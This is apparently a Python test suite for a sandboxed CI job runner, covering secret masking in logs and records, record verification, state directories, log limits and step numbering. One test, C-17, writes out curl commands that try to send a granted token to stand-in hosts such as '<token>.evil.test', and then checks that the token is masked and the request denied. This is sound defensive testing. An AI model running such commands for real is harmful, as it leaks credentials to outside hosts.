#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""job_test.py - what a job tells at its end, and where it lives."""
import os
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from dd import DRYDOCK, FETCH, PUSH, Job, case, check, equal, main, run, step  # noqa: E402

SECRET = "fedcba9876543210-canary"
TOKEN = {"token": {"from": {"env": "A_TOKEN"}, "for": {"phase": "fetch", "steps": ["holds"]}, "as": {"env": "TOKEN"}}}


def logs_of(r):
    """Every log of a run, joined."""
    where = next(line.split("logs:", 1)[1].strip() for line in r.out.splitlines() if line.startswith("  logs:"))
    texts = []
    for name in sorted(os.listdir(where)):
        with open(os.path.join(where, name), encoding="utf-8", errors="replace") as file:
            texts.append(file.read())
    return "\n".join(texts)


@case("C-17", "a value that one step was granted is masked in every later step: on the terminal, in the log, in the record, behind a refusal")
def _():
    job = Job([step("holds", 'echo "$TOKEN" >t; echo @@has=${#TOKEN}@@', FETCH), step("reads", "cat t; sed 's/^/prefix /' t >&2", FETCH),
               step("asks", "curl -sS -m 2 --no-progress-meter http://nowhere.test/$(cat t) || curl -s -m 2 http://$(cat t).evil.test/ || echo @@asked=yes@@"),
               step("names", 'mkdir dist; : >"dist/$(cat t)"')],
              {"fetch": {"egress": [{"host": "allowed.test", "port": 443}]}, "push": {"artifacts": ["dist/**"]}}, credentials=TOKEN)
    try:
        r = job.run(env={"A_TOKEN": SECRET})
        equal(r.rc, 0, "exit status", r)
        equal(r.mark("has"), str(len(SECRET)), "length of the value in its own step", r)
        logs = logs_of(r)
        with open(r.record_path, encoding="utf-8") as file:
            record = file.read()
        for where, text in (("the terminal", r.out), ("a log", logs), ("the record", record)):
            check(SECRET not in text, f"the value stands in {where}", r)
        check("prefix ***" in r.out and "prefix ***" in logs, "the later step's line is not there, masked", r)
        equal([e["path"] for e in r.events("artifact")], ["dist/***"], "the artifact that is called by it", r)
        deny = r.events("dns.deny", host="***.evil.test")
        check(deny and "***" in (deny[0]["process"] or {"argv": "***"})["argv"], "the refusal of the last step does not show it masked", r)
    finally:
        job.close()


@case("", "a run prints the head of its record's chain, and record verify finds the same")
def _():
    job = Job([step("a", "true")])
    try:
        r = job.run()
        head = next(line.split("head:", 1)[1].strip() for line in r.out.splitlines() if line.startswith("  head:"))
        verify = subprocess.run([DRYDOCK, "record", "verify", "record.jsonl"], cwd=job.dir, env=job.environ(), capture_output=True, text=True, check=False)
        equal(verify.returncode, 0, "verifying: " + verify.stderr, r)
        check(len(head) == 64 and head in verify.stdout, f"verify does not print {head}: {verify.stdout}", r)
    finally:
        job.close()


@case("", "a relative --state-dir works, and nothing but records is left below it")
def _():
    job = Job([step("a", "echo @@ran=yes@@")])
    try:
        r = job.run("--state-dir", "own/state")
        equal(r.rc, 0, "exit status", r)
        equal(r.mark("ran"), "yes", "the step", r)
        equal(os.listdir(os.path.join(job.dir, "own/state/jobs")), [], "left of the job", r)
    finally:
        job.close()


@case("", "a state directory on a file system without exec is refused before the first step, with the remedy")
def _():
    job = Job([step("a", "echo @@ran=yes@@")])
    try:
        os.mkdir(os.path.join(job.dir, "ne"))
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", "noexec,mode=0777", "x", os.path.join(job.dir, "ne")], check=False)
        equal(done.returncode, 0, "mounting a tmpfs")
        r = job.run("--state-dir", "ne/state")
        equal(r.rc, 3, "exit status", r)
        check("noexec" in r.out and "--state-dir" in r.out, "the remedy is not named", r)
        check("ran" not in r.marks, "the step ran", r)
    finally:
        subprocess.run(["umount", os.path.join(job.dir, "ne")], check=False)
        job.close()


@case("L-07", "a log that is cut is told and recorded")
def _():
    r = run([step("loud", "head -c 200000 /dev/zero | tr '\\0' a | fold -w 100"), step("quiet", "true")], limits={"log": "64KiB"})
    check("step 1 printed more than limits.log = 64.0 KiB" in r.out, "the cut is not told", r)
    equal([e["log_cut"] for e in r.events("step.end")], [True, False], "log_cut", r)


@case("", "the record says which filter each step got, the same one for steps of the same profile, and none where nothing is run")
def _():
    r = run([{"uses": "actions/checkout@v4", "id": "src", "_phase": FETCH}, step("a", "true"), step("b", "true", PUSH)], {"push": {"artifacts": ["dist/**"]}})
    filters = [e.get("filter") for e in r.events("step.start")]
    check(filters[0] is None and len(filters[1]) == 64, f"filters {filters}", r)
    equal(filters[1], filters[2], "filters of one profile", r)


@case("", "a step that is skipped keeps its number and its place: in the header of the next, in what is told of it, and in the table at the end")
def _():
    r = run([step("first", "true"), step("skipped", "echo no", **{"if": "failure()"}), step("left", "sleep 60 & exit 3")], rc=1)
    check("[3/3] left" in r.out and "[2/3]" not in r.out, "headers", r)
    check("step 2: skipped" in r.out and "| drydock: 1 process was still running" in r.out, "what is told of the two", r)
    table = r.out[r.out.index("job test:"):]
    equal([line.split()[0] for line in table.splitlines() if line.split()[-1:] and line.split()[-1] in ("first", "skipped", "left")], ["1", "2", "3"], "rows of the table", r)


if __name__ == "__main__":
    main()
